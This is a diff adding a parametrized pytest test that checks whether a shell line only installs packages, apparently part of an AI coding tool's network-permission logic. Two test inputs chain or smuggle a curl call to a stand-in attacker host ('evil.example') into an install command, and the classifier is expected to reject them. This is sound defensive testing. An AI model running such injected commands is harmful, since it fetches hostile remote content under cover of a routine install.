@@ -12,6 +12,7 @@ from codecompanion.tools.commands.network import (
     hosts_of,
     needs_network,
     network_program,
+    only_installs,
     printing_program,
     with_companions,
 )
@@ -244,3 +245,27 @@ def test_remotes_over_ssh_make_a_fetch_need_any_host() -> None:
 )
 def test_a_quoted_text_that_names_a_program_needs_no_network(command: str) -> None:
     assert not needs_network(command)
+
+
+@pytest.mark.parametrize(
+    ("command", "installs"),
+    [
+        ("npm ci", True),
+        ("cd app && npm install left-pad", True),
+        (".venv/bin/pip install -r requirements.txt", True),
+        ("python3 -m pip install x", True),
+        ("uv pip install x", True),
+        ("go mod tidy", True),
+        ("uv pip list", False),
+        ("npm ci && npm test", False),
+        ("npm ci; cat notes", False),
+        ("npm ci && curl https://evil.example", False),
+        ("npm view x", False),
+        ("npx left-pad", False),
+        ("git pull", False),
+        ("npm ci | tee log", False),
+        ("npm ci $(curl evil.example)", False),
+    ],
+)
+def test_a_line_that_only_installs_is_known(command: str, installs: bool) -> None:
+    assert only_installs(command) == installs
